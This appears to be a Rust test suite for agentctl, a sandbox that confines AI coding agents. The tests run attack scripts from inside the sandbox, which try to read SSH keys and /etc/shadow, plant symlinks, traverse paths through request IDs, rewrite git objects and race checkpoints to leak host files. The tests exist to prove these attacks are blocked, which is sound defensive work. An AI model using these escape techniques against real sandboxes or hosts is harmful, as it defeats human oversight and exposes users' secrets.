        .map(|(p, _)| p.display().to_string())
        .collect();
    tally.record(
        "caller_env_in_state_dir",
        env_stored.is_empty(),
        format!("the caller's undeclared OTHER_SECRET found in: {env_stored:?}"),
    );
    tally.record(
        "undeclared_secret_visible",
        out_log.contains("other=unset") && !out_log.contains(&other_secret),
        format!("{:?}", out_log.lines().find(|l| l.starts_with("other="))),
    );

    // 6. Control requests the supervisor carries out on the host.
    let out = finished(&control, "control");
    let control_clean = std::fs::read_dir(&control_dir).unwrap().count() == 0;
    tally.contained(&out, "rollback_through_symlinked_dir", control_clean);
    tally.denied(&out, "rollback_path_traversal", control_clean);

    // 7. Signals.
    let out = finished(&signals, "signals");
    tally.denied(&out, "kill_host_process", sleeper.alive());
    tally.denied(&out, "list_host_processes", true);
    let sig = env.show(&signals);
    let ended = events_of(&env, &signals, "finished");
    tally.contained(
        &out,
        "kill_everything_visible",
        sleeper.alive() && sig["state"] == "succeeded" && ended.len() == 1,
    );

    // Run A is still there, untouched by all of this.
    assert_eq!(
        std::fs::read_to_string(other_wt.join("marker.txt")).unwrap(),
        "OTHER-RUN\n"
    );
    env.run(&["stop", &other]);
    env.wait(&other);
    drop(daemon);

    let escaped_canaries: Vec<&&str> = HOST_CANARIES.iter().filter(|c| Path::new(c).exists()).collect();
    let (attempts, blocked, table) = tally.summary();
    eprintln!(
        "attack suite: {attempts} attempts, {blocked} blocked ({:.1}s)\n{table}",
        started.elapsed().as_secs_f64()
    );
    assert!(escaped_canaries.is_empty(), "written on the host: {escaped_canaries:?}");
    // The agent's own commit (made before it tried to move `main`) reached its branch.
    assert_eq!(moved.len(), 1, "{moved:?}");
    assert_eq!(
        attempts, blocked,
        "attack suite: {attempts} attempts, {blocked} blocked\n{table}\nagent output:\n{logs}"
    );
    // The count is in the test's name: keep them in step.
    assert_eq!(attempts, 72, "attack suite: {attempts} attempts; rename the test");
}

// ---------------------------------------------------------------------------------------------
// Positive paths

/// A normal coding task, sandboxed: edit, test, commit on its branch. The branch has the
/// commit afterwards; the user's checkout and branch do not.
#[test]
fn a_sandboxed_agent_edits_tests_and_commits_on_its_branch() {
    let env = Env::new();
    std::fs::write(env.repo.join("calc.py"), "def add(a, b):\n    return a - b\n").unwrap();
    std::fs::write(
        env.repo.join("test_calc.py"),
        "import unittest\nfrom calc import add\n\nclass T(unittest.TestCase):\n    \
         def test_add(self):\n        self.assertEqual(add(2, 3), 5)\n\n\
         if __name__ == '__main__':\n    unittest.main()\n",
    )
    .unwrap();
    git(&env.repo, &["add", "-A"]);
    git(&env.repo, &["commit", "-qm", "calc with a bug"]);
    let main_before = git(&env.repo, &["rev-parse", "main"]);
    let status_before = git(&env.repo, &["status", "--porcelain"]);
    let task = r#"set -e
python3 -B -m unittest -q test_calc 2>/dev/null && { echo "test passed before the fix"; exit 1; }
sed -i 's/a - b/a + b/' calc.py
python3 -B -m unittest -q test_calc
echo fixed >> NOTES.md
# An alternate of the agent's choosing, which agentctl's import (outside) must not follow.
echo /tmp/agentctl-evil-objects >> "$(git rev-parse --git-common-dir)/objects/info/alternates"
git add -A
git -c user.name=agent -c user.email=agent@example.com commit -qm "fix add"
git log -1 --format='committed %H'
"#;
    let (v, out) = env.json(&["run", "--", "sh", "-c", task]);
    assert_eq!(
        v["state"],
        "succeeded",
        "{v}\n{}\n{}",
        env.logs(v["id"].as_str().unwrap()),
        stderr(&out)
    );
    let id = v["id"].as_str().unwrap();
    let branch = format!("agentctl/{id}");
    assert_eq!(v["branch"], branch.as_str());
    let iso = &events_of(&env, id, "isolated")[0];
    assert_eq!(iso["sandbox"], "on", "{iso}");
    assert_eq!(iso["mechanism"], "bubblewrap", "{iso}");
    assert_eq!(iso["network"], "none", "{iso}");
    assert_eq!(iso["git"], "commit", "{iso}");
    let log = env.logs(id);
    let committed = log
        .lines()
        .find_map(|l| l.strip_prefix("committed "))
        .unwrap_or_else(|| panic!("{log}"))
        .to_owned();
    // The agent pointed its store's alternates elsewhere; the import never reads through them
    // (regular files only, judged against the run's view), and the commit came in all the same.
    let alternates = env
        .state
        .join("runs")
        .join(id)
        .join("sandbox/git/objects/info/alternates");
    assert!(std::fs::read_to_string(&alternates).unwrap().contains("evil"));
    let store = env.repo.join(".git/agentctl/stores").join(id);
    let kind = Command::new("git")
        .current_dir(&env.repo)
        .env("GIT_OBJECT_DIRECTORY", &store)
        .args(["cat-file", "-t", &committed])
        .output()
        .unwrap();
    assert_eq!(
        stdout(&kind).trim(),
        "commit",
        "the agent's commit is in its run's store"
    );
    // The branch moved to the agent's commit, recorded.
    let moved = events_of(&env, id, "branch_updated");
    assert_eq!(moved.len(), 1, "{moved:?}");
    assert_eq!(moved[0]["branch"], branch.as_str());
    assert_eq!(moved[0]["from"], main_before.trim());
    assert_eq!(moved[0]["to"], committed.as_str());
    assert_eq!(git(&env.repo, &["rev-parse", &branch]).trim(), committed);
    assert_eq!(
        git(&env.repo, &["log", "-1", "--format=%s %an", &branch]).trim(),
        "fix add agent"
    );
    assert_eq!(
        git(&env.repo, &["show", &format!("{branch}:calc.py")]),
        "def add(a, b):\n    return a + b\n"
    );
    // The user's checkout, branch and HEAD are as they were.
    assert_eq!(git(&env.repo, &["rev-parse", "main"]), main_before);
    assert_eq!(git(&env.repo, &["symbolic-ref", "HEAD"]).trim(), "refs/heads/main");
    assert_eq!(git(&env.repo, &["status", "--porcelain"]), status_before);
    assert!(
        std::fs::read_to_string(env.repo.join("calc.py"))
            .unwrap()
            .contains("a - b")
    );
    // The worktree is clean on the new commit.
    let wt = PathBuf::from(v["worktree"].as_str().unwrap());
    assert_eq!(git(&wt, &["status", "--porcelain"]), "");
    assert_eq!(git(&wt, &["rev-parse", "HEAD"]).trim(), committed);
}

/// `--network proxy` with an allowed domain and internal addresses allowed reaches the
/// destination; what is not listed is still refused.
#[test]
fn the_proxy_lets_an_allowed_destination_through() {
    let env = Env::new();
    let listener = http_listener();
    let port = listener.port.to_string();
    let script = r#"
curl -s -m 5 "http://localhost:$1/" | sed 's/^/body=/'
echo "proxy=$HTTP_PROXY"
code=$(curl -s -m 3 -o /dev/null -w '%{http_code}' "http://127.0.0.1:$1/"); echo "literal=$code"
"#;
    let (v, _) = env.json(&[
        "run",
        "--network",
        "proxy",
        "--allow-domain",
        "localhost",
        "--allow-internal-network",
        "--",
        "sh",
        "-c",
        script,
        "sh",
        &port,
    ]);
    let id = v["id"].as_str().unwrap();
    assert_eq!(v["state"], "succeeded", "{v}");
    let log = env.logs(id);
    assert!(log.contains("body=hello"), "{log}");
    assert!(log.contains("proxy=http://127.0.0.1:3128"), "{log}");
    assert!(
        log.contains("literal=403"),
        "an IP literal is not the listed domain: {log}"
    );
    assert!(listener.hits.load(Ordering::SeqCst) >= 1);
    let iso = &events_of(&env, id, "isolated")[0];
    assert_eq!(iso["network"], "proxy", "{iso}");
    assert_eq!(iso["allow_domains"], serde_json::json!(["localhost"]), "{iso}");
    assert_eq!(iso["allow_internal_network"], true, "{iso}");
    let refused = events_of(&env, id, "network_refused");
    assert_eq!(refused.len(), 1, "{refused:?}");
    assert_eq!(refused[0]["host"], "127.0.0.1");
}

/// Secrets from the secrets file (0600 only) and a configured command reach the agent
/// redacted; a missing one fails the run before the agent starts.
#[test]
fn secrets_come_from_their_sources_and_a_missing_one_fails_the_run() {
    let env = Env::new();
    let config = env.dir.path().join("config");
    std::fs::create_dir_all(&config).unwrap();
    let file_secret = format!("filesecret{}", random_hex(16));
    let cmd_secret = format!("cmdsecret{}", random_hex(16));
    let secrets_file = config.join("secrets.env");
    std::fs::write(&secrets_file, format!("FILE_TOKEN={file_secret}\n")).unwrap();
    std::fs::write(
        config.join("config.toml"),
        format!("[secrets]\nCMD_TOKEN = \"cmd:printf {cmd_secret}\"\n"),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    // Readable by others: refused.
    std::fs::set_permissions(&secrets_file, std::fs::Permissions::from_mode(0o644)).unwrap();
    // Refused before anything is created, with the code and exit code 66.
    let (v, out) = env.json(&["run", "--secret", "FILE_TOKEN", "--", "true"]);
    assert_eq!(out.status.code(), Some(66), "{v}");
    assert_eq!(v["error"]["code"], "SECRET_NOT_FOUND", "{v}");
    assert!(v["error"]["message"].as_str().unwrap().contains("insecure"), "{v}");
    std::fs::set_permissions(&secrets_file, std::fs::Permissions::from_mode(0o600)).unwrap();
    let (v, _) = env.json(&[
        "run",
        "--secret",
        "FILE_TOKEN",
        "--secret",
        "CMD_TOKEN",
        "--",
        "sh",
        "-c",
        "echo \"file=$FILE_TOKEN cmd=$CMD_TOKEN\"; printf %s \"$FILE_TOKEN$CMD_TOKEN\" | sha256sum > sums",
    ]);
    let id = v["id"].as_str().unwrap();
    assert_eq!(v["state"], "succeeded", "{v}");
    assert_eq!(env.logs(id), "file=[redacted:FILE_TOKEN] cmd=[redacted:CMD_TOKEN]\n");
    let sums = std::fs::read_to_string(PathBuf::from(v["worktree"].as_str().unwrap()).join("sums")).unwrap();
    assert!(sums.starts_with(&sha256_hex(format!("{file_secret}{cmd_secret}").as_bytes())));
    // Missing: refused before anything is created (no run).
    let (v, out) = env.json(&["run", "--secret", "MISSING_TOKEN", "--", "touch", "started"]);
    assert_eq!(out.status.code(), Some(66), "{v}");
    assert_eq!(v["error"]["code"], "SECRET_NOT_FOUND", "{v}");
    let (list, _) = env.json(&["ls"]);
    assert_eq!(
        list["runs"].as_array().map(Vec::len),
        Some(1),
        "only the run above: {list}"
    );
    // Not a name: refused at once.
    let (v, out) = env.json(&["run", "--secret", "1BAD", "--", "true"]);
    assert_eq!(out.status.code(), Some(64), "{v}");
    assert_eq!(v["error"]["code"], "INVALID_ARGUMENT", "{v}");
}

/// Inside a sandboxed workflow step `agentctl msg send` reaches the supervisor through the
/// control directory, and a secret in a message is redacted from what is recorded.
#[test]
fn a_sandboxed_step_sends_messages_and_their_secrets_are_redacted() {
    let env = Env::new();
    std::fs::create_dir_all(env.repo.join(".agentctl/workflows")).unwrap();
    std::fs::write(
        env.repo.join(".agentctl/agents.toml"),
        "[agents.sender]\ncommand = [\"sh\", \"-c\", \
         \"agentctl msg send --verdict approved \\\"token is $MY_TOKEN\\\"\", \"{prompt}\"]\n",
    )
    .unwrap();
    std::fs::write(
        env.repo.join(".agentctl/workflows/send.toml"),
        "name = \"send\"\n\n[[steps]]\nid = \"one\"\nagent = \"sender\"\nprompt = \"go\"\n",
    )
    .unwrap();
    git(&env.repo, &["add", "-A"]);
    git(&env.repo, &["commit", "-qm", "workflow"]);
    let token = format!("wftoken{}", random_hex(20));
    let id = start_with(
        &env,
        &[("MY_TOKEN", &token)],
        &["--secret", "MY_TOKEN", "--workflow", "send", "task"],
    );
    let v = env.wait(&id);
    assert_eq!(v["state"], "succeeded", "{v}\n{}", env.logs(&id));
    assert_eq!(events_of(&env, &id, "isolated")[0]["sandbox"], "on");
    let (msgs, _) = env.json(&["msgs", &id]);
    let text = msgs.to_string();
    assert!(text.contains("token is [redacted:MY_TOKEN]"), "{text}");
    assert!(!text.contains(&token), "{text}");
    let mut files = Vec::new();
    all_files(&env.state, &mut files);
    let leaked: Vec<_> = files
        .iter()
        .filter(|(_, b)| contains(b, token.as_bytes()))
        .map(|(p, _)| p)
        .collect();
    assert!(leaked.is_empty(), "{leaked:?}");
}

/// `--sandbox=off` runs unconfined, says so loudly, and records it — and the suite's own
/// attack scripts then succeed, which proves the suite can tell an escape from a block.
#[test]
fn sandbox_off_warns_records_and_lets_the_attacks_through() {
    let env = Env::new();
    let outside = env.dir.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    let home = env.dir.path().join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(
        home.join(".ssh/id_ed25519"),
        "-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n",
    )
    .unwrap();
    std::fs::write(env.repo.join("local-secret.txt"), "local only\n").unwrap();
    let host_mark = format!("HOSTMARK{}", random_hex(16));
    let _sleeper = Sleeper::start(&host_mark);
    let listener = http_listener();
    // Said out loud in human mode; in JSON mode the event records it.
    let human = env.run(&["run", "--sandbox=off", "--", "true"]);
    assert!(human.status.success(), "{}", stderr(&human));
    assert!(stderr(&human).contains("WARNING"), "{}", stderr(&human));
    // Off by configuration is as loud, and names where it comes from.
    let config = env.dir.path().join("config");
    std::fs::create_dir_all(&config).unwrap();
    std::fs::write(config.join("config.toml"), "[sandbox]\nmode = \"off\"\n").unwrap();
    let configured = env.run(&["run", "--", "true"]);
    assert!(configured.status.success(), "{}", stderr(&configured));
    assert!(
        stderr(&configured).contains("WARNING") && stderr(&configured).contains("config.toml"),
        "{}",
        stderr(&configured)
    );
    std::fs::remove_file(config.join("config.toml")).unwrap();
    // The harmless part of the suite's scripts: writes into a temp dir, reads, loopback.
    let body = format!(
        "{TRY}{READ_ATTACKS}
OUT=$7; PORT=$8
try write_outside_tempdir 'echo pwned > \"$OUT/abs.txt\"'
try symlink_to_outside 'ln -s \"$OUT\" link && echo pwned > link/via-symlink.txt'
try host_loopback_port 'curl -s -m 3 -o /dev/null \"http://127.0.0.1:$PORT/\"'
echo \"other=${{OTHER_SECRET:-unset}}\"
"
    );
    let (h, st, r) = (
        home.to_str().unwrap(),
        env.state.to_str().unwrap(),
        env.repo.to_str().unwrap(),
    );
    let port = listener.port.to_string();
    let args = [
        h,
        st,
        "/nonexistent",
        "none",
        r,
        &host_mark,
        outside.to_str().unwrap(),
        &port,
    ];
    let out = env
        .cmd()
        .env("OTHER_SECRET", "visible-when-off")
        .env("HOME", &home)
        .args(["--json", "run", "--sandbox=off", "--", "sh", "-c", &body, "sh"])
        .args(args)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    let id = v["id"].as_str().unwrap();
    assert_eq!(v["state"], "succeeded", "{v}");
    let iso = &events_of(&env, id, "isolated")[0];
    assert_eq!(iso["sandbox"], "off", "{iso}");
    assert_eq!(iso["mechanism"], "none", "{iso}");
    let warnings = iso["warnings"].as_array().cloned().unwrap_or_default();
    assert!(
        warnings.iter().any(|w| w.as_str().unwrap().contains("sandbox is off")),
        "{iso}"
    );
    let log = env.logs(id);
    let res = outcomes(&log);
    for name in [
        "read_ssh_key",
        "list_ssh_dir",
        "read_etc_shadow",
        "list_checkpoint_refs",
        "read_state_database",
        "read_own_event_log",
        "read_untracked_file_in_checkout",
        "read_host_process_environ",
        "write_outside_tempdir",
        "symlink_to_outside",
        "host_loopback_port",
    ] {
        if name == "read_etc_shadow" && std::fs::read("/etc/shadow").is_err() {
            continue; // not root
        }
        assert_eq!(res.get(name).map(String::as_str), Some("done"), "{name}: {log}");
    }
    assert!(outside.join("abs.txt").exists() && outside.join("via-symlink.txt").exists());
    assert!(listener.hits.load(Ordering::SeqCst) >= 1);
    assert!(log.contains("other=visible-when-off"), "{log}");
}

/// Without a usable bubblewrap a sandboxed run is refused before anything is created;
/// `--sandbox=off` still works.
#[test]
fn a_missing_bubblewrap_refuses_the_run_and_creates_nothing() {
    let env = Env::new();
    let out = env
        .cmd()
        .env("AGENTCTL_BWRAP", "/nonexistent")
        .args(["run", "--", "touch", "/tmp/agentctl-never"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(69), "{}", stderr(&out));
    assert!(stderr(&out).contains("SANDBOX_UNAVAILABLE"), "{}", stderr(&out));
    let out = env
        .cmd()
        .env("AGENTCTL_BWRAP", "/nonexistent")
        .args(["--json", "run", "--", "true"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(69));
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["error"]["code"], "SANDBOX_UNAVAILABLE", "{v}");
    assert!(!v["error"]["hint"].as_str().unwrap_or_default().is_empty(), "{v}");
    // Nothing: no run, no worktree, no branch.
    assert_eq!(env.json(&["ls"]).0["runs"].as_array().unwrap().len(), 0);
    let worktrees = std::fs::read_dir(env.state.join("worktrees"))
        .map(|d| d.count())
        .unwrap_or(0);
    assert_eq!(worktrees, 0);
    assert_eq!(git(&env.repo, &["branch", "--list", "agentctl/*"]), "");
    assert_eq!(git(&env.repo, &["worktree", "list"]).lines().count(), 1);
    // Unconfined runs do not need it.
    let out = env
        .cmd()
        .env("AGENTCTL_BWRAP", "/nonexistent")
        .args(["run", "--sandbox=off", "--", "true"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
}

// ---------------------------------------------------------------------------------------------
// Escapes that work today

/// `objects/` is shared writable: the agent can rewrite an existing object of the user's
/// repository (same name, new content). Git does not re-hash loose objects on read, so the
/// user's next checkout of `main` writes the agent's content.
#[test]
fn the_agent_cannot_rewrite_objects_of_the_users_repository() {
    let env = Env::new();
    let script = r#"
import os, subprocess, zlib
blob = subprocess.check_output(["git", "rev-parse", "main:README.md"]).decode().strip()
common = subprocess.check_output(["git", "rev-parse", "--git-common-dir"]).decode().strip()
path = os.path.join(common, "objects", blob[:2], blob[2:])
data = b"pwned by the agent\n"
try:
    os.chmod(path, 0o644)
    with open(path, "wb") as f:
        f.write(zlib.compress(b"blob %d\0" % len(data) + data))
    print("rewrote", path)
except OSError as e:
    print("denied", e)
"#;
    let (v, _) = env.json(&["run", "--", "python3", "-c", script]);
    let log = env.logs(v["id"].as_str().unwrap());
    let shown = git(&env.repo, &["cat-file", "-p", "main:README.md"]);
    assert_eq!(shown, "# sample\n", "the user's main now has the agent's README: {log}");
    std::fs::remove_file(env.repo.join("README.md")).unwrap();
    git(&env.repo, &["checkout", "--", "README.md"]);
    assert_eq!(
        std::fs::read_to_string(env.repo.join("README.md")).unwrap(),
        "# sample\n"
    );
}

/// The control directory is bound writable and the supervisor writes its answers with
/// `fs::write(resp-ID.tmpPID)` + rename, following symlinks. The agent learns the supervisor's
/// pid from a temp file left behind when the rename fails (a directory at `resp-a.json`), then
/// plants `resp-b.tmpPID` → a host path and sends request `b`: the supervisor writes there.
#[test]
fn a_planted_symlink_in_the_control_dir_does_not_make_the_supervisor_write_outside() {
    let env = Env::new();
    let victim = env.dir.path().join("victim-control.txt");
    let script = r#"
c=$AGENTCTL_CONTROL_DIR
mkdir "$c/resp-a.json"
echo garbage > "$c/t" && mv "$c/t" "$c/req-a.json"
for i in $(seq 1 100); do t=$(ls "$c" | grep '^resp-a\.tmp' | head -1); [ -n "$t" ] && break; sleep 0.05; done
pid=${t#resp-a.tmp}
echo "supervisor pid: $pid"
ln -s "$1" "$c/resp-b.tmp$pid"
echo garbage > "$c/t" && mv "$c/t" "$c/req-b.json"
for i in $(seq 1 100); do [ -L "$c/resp-b.json" ] || [ -e "$c/resp-b.json" ] && break; sleep 0.05; done
"#;
    let (v, _) = env.json(&["run", "--", "sh", "-c", script, "sh", victim.to_str().unwrap()]);
    let log = env.logs(v["id"].as_str().unwrap());
    assert!(
        !victim.exists(),
        "the supervisor wrote {} on the host: {:?}\n{log}",
        victim.display(),
        std::fs::read_to_string(&victim)
    );
}

/// The supervisor answers a control request at `control/resp-<request_id>.json`, with the
/// request id taken from the request's JSON, which the agent writes. With a directory named
/// `resp-..` in its control directory, `resp-../../…/path` resolves anywhere on the host.
#[test]
fn a_request_id_cannot_make_the_supervisor_write_outside_the_control_dir() {
    let env = Env::new();
    let victim = env.dir.path().join("victim-request-id");
    let script = r#"
c=$AGENTCTL_CONTROL_DIR
mkdir "$c/resp-.."
printf '{"op":"checkpoint","request_id":"../../../../../../../../../../../..%s","message":null}' "$1" > "$c/t"
mv "$c/t" "$c/req-x.json"
sleep 1.5
"#;
    let (v, _) = env.json(&["run", "--", "sh", "-c", script, "sh", victim.to_str().unwrap()]);
    let written = victim.with_extension("json");
    assert!(
        !written.exists(),
        "the supervisor wrote {} on the host: {:?} ({v})",
        written.display(),
        std::fs::read_to_string(&written)
    );
}

/// The run's branch lives in a private directory bound writable at `refs/heads/agentctl/`,
/// its objects in one bound at `objects/`. The agent replaces its ref file, and its store's
/// `info` directory, with symlinks to host paths; when the workflow is resumed,
/// `GitView::prepare` must write through neither.
#[test]
fn a_resumed_workflow_does_not_write_through_a_planted_ref_symlink() {
    let env = Env::new();
    let victim = env.dir.path().join("victim-resume.txt");
    let victim_info = env.dir.path().join("victim-info");
    std::fs::create_dir_all(&victim_info).unwrap();
    std::fs::write(victim_info.join("alternates"), "untouched\n").unwrap();
    std::fs::create_dir_all(env.repo.join(".agentctl/workflows")).unwrap();
    std::fs::write(
        env.repo.join(".agentctl/agents.toml"),
        "[agents.planter]\ncommand = [\"sh\", \"./plant.sh\", \"{prompt}\"]\n",
    )
    .unwrap();
    std::fs::write(
        env.repo.join(".agentctl/workflows/plant.toml"),
        "name = \"plant\"\n\n[[steps]]\nid = \"one\"\nagent = \"planter\"\nprompt = \"go\"\n",
    )
    .unwrap();
    std::fs::write(
        env.repo.join("plant.sh"),
        format!(
            "info=\"$(git rev-parse --git-common-dir)/objects/info\"\n\
             if [ ! -L \"$info\" ]; then rm -rf \"$info\" && ln -s {} \"$info\"; fi\n\
             ref=\"$(git rev-parse --git-common-dir)/refs/heads/$AGENTCTL_BRANCH\"\n\
             if [ ! -L \"$ref\" ]; then rm -f \"$ref\" && ln -s {} \"$ref\" && echo planted; sleep 30; fi\n",
            victim_info.display(),
            victim.display()
        ),
    )
    .unwrap();
    git(&env.repo, &["add", "-A"]);
    git(&env.repo, &["commit", "-qm", "workflow"]);
    let id = env.start(&["--workflow", "plant", "task"]);
    let t = Instant::now();
    while !env.logs(&id).contains("planted") {
        assert!(
            t.elapsed() < Duration::from_secs(20),
            "never planted: {}",
            env.logs(&id)
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    let pid = env.show(&id)["supervisor_pid"].as_u64().unwrap();
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(pid as i32),
        nix::sys::signal::Signal::SIGKILL,
    )
    .unwrap();
    env.until(&id, Duration::from_secs(20), |v| v["state"] == "interrupted");
    let out = env.run(&["resume", &id]);
    assert!(out.status.success(), "{}", stderr(&out));
    // The resumed supervisor has set the sandbox up again (a fixed one lets the step plant
    // again and sleep: it is stopped).
    let t = Instant::now();
    while events_of(&env, &id, "isolated").len() < 2 && env.show(&id)["state"] != "succeeded" {
        assert!(t.elapsed() < Duration::from_secs(20), "not resumed: {}", env.show(&id));
        std::thread::sleep(Duration::from_millis(50));
    }
    env.run(&["stop", &id]);
    env.wait(&id);
    assert!(
        !victim.exists(),
        "the resumed supervisor wrote {} on the host: {:?}",
        victim.display(),
        std::fs::read_to_string(&victim)
    );
    assert_eq!(
        std::fs::read_to_string(victim_info.join("alternates")).unwrap(),
        "untouched\n",
        "the resumed supervisor wrote through the planted objects/info link"
    );
}

/// Checkpoints read the worktree on the host while the agent runs: a file swapped for a
/// symlink to a host file between git's `lstat` and its `open` (or the path scan's
/// `symlink_metadata` and `read`) is read through the symlink, and its content lands in the
/// shared object store, which the agent can read. The agent asks for the checkpoints itself
/// (control requests), with default settings.
#[test]
fn a_checkpoint_never_reads_through_a_symlink_swapped_in_during_the_scan() {
    let env = Env::new();
    let secret = format!("HOSTSECRET{}", random_hex(24));
    let target = env.dir.path().join("host-secret.txt");
    std::fs::write(&target, format!("{secret}\n")).unwrap();
    let script = r#"
import os, sys, time, zlib, subprocess
target, prefix, seconds = sys.argv[1], sys.argv[2].encode(), float(sys.argv[3])
objs = os.path.join(subprocess.check_output(["git", "rev-parse", "--git-common-dir"]).decode().strip(), "objects")
def names():
    return {d + f for d in os.listdir(objs) if len(d) == 2 for f in os.listdir(os.path.join(objs, d))}
before = names()
def leaked():
    for n in names() - before:
        try:
            data = zlib.decompress(open(os.path.join(objs, n[:2], n[2:]), "rb").read())
        except Exception:
            continue
        if prefix in data:
            return data
control = os.environ["AGENTCTL_CONTROL_DIR"]
deadline, i = time.time() + seconds, 0
while time.time() < deadline:
    for k in range(200):
        name = "leak%d" % (k % 8)
        with open("tf", "w") as f:
            f.write("decoy-padding-xx\n")  # shorter than the target: git reads its lstat size
        os.replace("tf", name)
        try:
            os.unlink("tl")
        except FileNotFoundError:
            pass
        os.symlink(target, "tl")
        os.replace("tl", name)
        i += 1
    with open(os.path.join(control, "t"), "w") as f:
        f.write('{"op":"checkpoint","request_id":"c%d","message":null}' % i)
    os.replace(os.path.join(control, "t"), os.path.join(control, "req-c%d.json" % i))
    got = leaked()
    if got:
        print("LEAKED", got)
        sys.exit(0)
print("no leak after", i, "swaps")
"#;
    let (v, _) = env.json(&[
        "run",
        "--",
        "python3",
        "-c",
        script,
        target.to_str().unwrap(),
        "HOSTSECRET",
        "20",
    ]);
    let log = env.logs(v["id"].as_str().unwrap());
    // Whatever the agent says, the object store must not hold the host file's content.
    let all = Command::new("git")
        .current_dir(&env.repo)
        .args(["cat-file", "--batch-all-objects", "--batch"])
        .output()
        .unwrap();
    assert!(
        !contains(&all.stdout, &secret.as_bytes()[..16]),
        "a checkpoint stored a host file's content: {log}"
    );
    assert!(!log.contains("LEAKED"), "{log}");
}

/// Another run's checkpoints and commits are in its own object store, which no other sandbox
/// sees: an agent that asks git for every object it has, and reads every file under the
/// repository's git directory it can reach, finds none of them.
#[test]
fn a_run_cannot_read_another_runs_files_through_the_object_store() {
    let env = Env::new();
    let uncommitted = format!("OTHERRUNFILE-{}", random_hex(24));
    let committed = format!("OTHERRUNCOMMIT-{}", random_hex(24));
    let a = env.start(&[
        "--",
        "sh",
        "-c",
        &format!(
            "echo {committed} > committed.txt && git add committed.txt && git -c user.name=a -c user.email=a@b commit -qm c && echo {uncommitted} > marker.txt; sleep 20"
        ),
    ]);
    let wt = PathBuf::from(env.show(&a)["worktree"].as_str().unwrap().to_owned());
    let t = Instant::now();
    while !wt.join("marker.txt").exists() {
        assert!(t.elapsed() < Duration::from_secs(20));
        std::thread::sleep(Duration::from_millis(20));
    }
    let out = env.run(&["checkpoint", &a]);
    assert!(out.status.success(), "{}", stderr(&out));
    let script = r#"
import os, sys, zlib, subprocess
common = subprocess.check_output(["git", "rev-parse", "--path-format=absolute", "--git-common-dir"]).decode().strip()
# Everything git can read here, loose or packed, through every alternate it follows.
every = subprocess.run(["git", "cat-file", "--batch-all-objects", "--batch"], capture_output=True).stdout
for m in (b"OTHERRUNFILE-", b"OTHERRUNCOMMIT-"):
    if m in every:
        i = every.index(m)
        print("GIT", every[i:i + 40].decode(errors="replace"))
# Every file under the git directory and the alternates named anywhere, read raw and inflated.
roots = [common]
seen = set()
while roots:
    root = roots.pop()
    for d, _, files in os.walk(root):
        for f in files:
            p = os.path.join(d, f)
            if p in seen:
                continue
            seen.add(p)
            try:
                data = open(p, "rb").read()
            except Exception:
                continue
            if f == "alternates":
                for l in data.decode(errors="replace").splitlines():
                    l = l.strip()
                    if l:
                        roots.append(l if os.path.isabs(l) else os.path.join(d, "..", l))
            try:
                data = data + zlib.decompress(data)
            except Exception:
                pass
            for m in (b"OTHERRUNFILE-", b"OTHERRUNCOMMIT-"):
                if m in data:
                    print("FILE", p)
print("searched", len(seen), "files")
"#;
    let (v, _) = env.json(&["run", "--", "python3", "-c", script]);
    let log = env.logs(v["id"].as_str().unwrap());
    env.run(&["stop", &a]);
    env.wait(&a);
    // Outside any sandbox git sees both: the run's branch and its checkpoint resolve.
    assert!(git(&env.repo, &["show", &format!("agentctl/{a}:committed.txt")]).contains(&committed));
    assert!(git(&env.repo, &["show", &format!("refs/agentctl/runs/{a}/1:marker.txt")]).contains(&uncommitted));
    assert!(log.contains("searched"), "the search did not run: {log}");
    assert!(
        !log.contains(&uncommitted),
        "run B read run A's checkpointed file: {log}"
    );
    assert!(!log.contains(&committed), "run B read run A's commit: {log}");
    assert!(
        !log.contains("GIT ") && !log.contains("FILE "),
        "run B found run A's objects: {log}"
    );
}

/// What the user takes from a run into the repository's history (a merge of its branch) is
/// readable in later sandboxes, also after `git gc`; the repository stays whole for git.
#[test]
fn a_merged_run_branch_is_readable_in_later_sandboxes_and_the_repository_stays_whole() {
    let env = Env::new();
    let mark = format!("MERGEDWORK-{}", random_hex(24));
    let (a, _) = env.json(&[
        "run",
        "--",
        "sh",
        "-c",
        &format!(
            "echo {mark} > merged.txt && git add merged.txt && git -c user.name=a -c user.email=a@b commit -qm work"
        ),
    ]);
    let a = a["id"].as_str().unwrap().to_owned();
    git(&env.repo, &["merge", "-q", "--no-edit", &format!("agentctl/{a}")]);
    let reader = "git log -p HEAD > /dev/null && git show HEAD:merged.txt && git fsck --connectivity-only --no-dangling 2>&1 && echo READ-OK";
    let check = |when: &str| {
        let (v, _) = env.json(&["run", "--", "sh", "-c", reader]);
        let log = env.logs(v["id"].as_str().unwrap());
        assert!(
            log.contains(&mark) && log.contains("READ-OK"),
            "{when}: the sandbox cannot read the merged work: {log}"
        );
    };
    check("after the merge");
    for args in [
        &["fsck", "--no-dangling"][..],
        &["gc", "-q"][..],
        &["fsck", "--no-dangling"][..],
    ] {
        let out = Command::new("git").current_dir(&env.repo).args(args).output().unwrap();
        assert!(out.status.success(), "git {args:?}: {}", stderr(&out));
    }
    check("after git gc");
}

/// A nested repository the agent plants in its worktree carries its own config, which the
/// user's `git status` in the worktree (the natural way to review a run) would run outside any
/// sandbox: it is quarantined out of the worktree as the agent's process ends.
#[test]
fn reviewing_a_worktree_with_git_status_runs_nothing_the_agent_planted() {
    let env = Env::new();
    let outside = env.dir.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    let body = format!("{TRY}{GIT_ATTACKS}");
    let (v, _) = env.json(&["run", "--", "sh", "-c", &body, "sh", outside.to_str().unwrap()]);
    let wt = PathBuf::from(v["worktree"].as_str().unwrap());
    let _ = Command::new("git")
        .current_dir(&wt)
        .args(["status", "--short"])
        .output()
        .unwrap();
    let ran: Vec<String> = std::fs::read_dir(&outside)
        .unwrap()
